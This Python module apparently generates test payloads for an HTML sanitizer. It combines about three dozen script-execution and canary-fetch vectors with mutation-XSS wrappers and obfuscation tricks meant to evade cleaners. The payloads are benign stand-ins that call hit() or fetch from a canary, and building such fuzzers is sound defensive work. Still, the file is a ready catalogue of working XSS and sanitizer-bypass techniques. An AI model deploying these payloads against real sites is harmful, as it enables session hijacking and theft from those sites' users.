"""A grammar of hostile HTML, made here: ways to run a script × ways to hide them from a cleaner.

Each payload calls `hit()` (counted by the browser's hook) or asks the canary for a file.
"""

from __future__ import annotations

import random
from collections.abc import Iterator

CANARY = "{canary}"
# Ways to run something, or to be fetched by merely being shown.
ACTS = (
    "<script>hit()</script>",
    '<script src="{canary}/s.js"></script>',
    '<img src=x onerror="hit()">',
    '<img src="{canary}/i.png">',
    '<img srcset="{canary}/i.png 1x, {canary}/j.png 2x">',
    '<svg onload="hit()"></svg>',
    '<svg><script>hit()</script></svg>',
    '<svg><animate onbegin="hit()" attributeName="x" dur="1s"></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>hit()</script></svg>#x"></svg>',
    '<math><mi xlink:href="javascript:hit()">x</mi></math>',
    '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
    '<iframe src="javascript:hit()"></iframe>',
    '<object data="data:text/html,<script>hit()</script>"></object>',
    '<embed src="{canary}/e.swf">',
    '<body onload="hit()">',
    '<details open ontoggle="hit()"><summary>x</summary></details>',
    '<video poster="{canary}/p.png"><source onerror="hit()" src="{canary}/v.mp4"></video>',
    '<audio src="{canary}/a.mp3" autoplay></audio>',
    '<link rel="stylesheet" href="{canary}/c.css">',
    '<link rel="prefetch" href="{canary}/c.html">',
    '<meta http-equiv="refresh" content="0;url={canary}/m">',
    '<base href="{canary}/">',
    '<style>@import url("{canary}/c.css");body{background:url("{canary}/b.png")}</style>',
    '<p style="background:url({canary}/b.png)">x</p>',
    '<p style="width:expression(hit())">x</p>',
    '<table background="{canary}/t.png"><tr><td>x</td></tr></table>',
    '<form action="javascript:hit()"><button autofocus onfocus="hit()">x</button></form>',
    '<input autofocus onfocus="hit()">',
    '<a href="javascript:hit()" autofocus onfocus="hit()">x</a>',
    '<a href="data:text/html,<script>opener.hit()</script>">x</a>',
    '<marquee onstart="hit()">x</marquee>',
    '<template><script>hit()</script></template>',
    '<noscript><p title="</noscript><img src=x onerror=hit()>"></noscript>',
    '<picture><source srcset="{canary}/w.webp"><img></picture>',
    '<input type="image" src="{canary}/n.png">',
)  # fmt: skip
# Ways to hide it: wrappers whose contents cleaners and browsers read differently.
WRAPPERS = (
    "%s",
    "<math><mtext><table><mglyph><style><!--</style>%s",
    "<svg><style><!--</style>%s--></svg>",
    "<svg></p><style><a id='</style>%s'></svg>",
    "<noscript><style></noscript>%s</style>",
    "<form><math><mtext></form><form><mglyph><style></math>%s",
    "<template><div>%s</div></template>%s",
    "<title>&lt;/title&gt;%s</title>%s",
    "<textarea></textarea><p>%s",
    "<!--><img alt='-->%s'>",
    "<![CDATA[<p>]]>%s",
    "<div><b><i><u>%s",
    "<table><caption><svg>%s</svg></caption></table>",
    "<select><option><style></option></select>%s</style>",
    "<xmp><p title='</xmp>%s'>",
    "<a href='x'%s>",
)


def payloads(count: int, *, seed: int, canary: str) -> Iterator[str]:
    """That many different payloads; the same for the same seed. Every act and every wrapper is among the first."""
    chance = random.Random(seed)
    pairs = [(act, wrapper) for act in ACTS for wrapper in WRAPPERS]
    chance.shuffle(pairs)
    first = [(act, "%s") for act in ACTS] + [(ACTS[2], wrapper) for wrapper in WRAPPERS]
    for number in range(count):
        act, wrapper = (first + pairs)[number % (len(first) + len(pairs))]
        text = wrapper.replace("%s", act)
        yield _disguise(text, chance).replace(CANARY, canary)


def _disguise(text: str, chance: random.Random) -> str:
    way = chance.randrange(6)
    if way == 1:
        return text.replace("javascript:", "java\tscript:").replace("<script", "<ScRiPt")
    if way == 2:
        return text.replace("javascript:", "&#106;avascript&colon;")
    if way == 3:
        return text.replace(" on", "/on").replace("<img ", "<img/")
    if way == 4:
        return text.replace("hit()", "hit&#40;&#41;")
    if way == 5:
        return text.replace("<svg", "<svg\x0c").replace("onerror=", "onerror\n=")
    return text
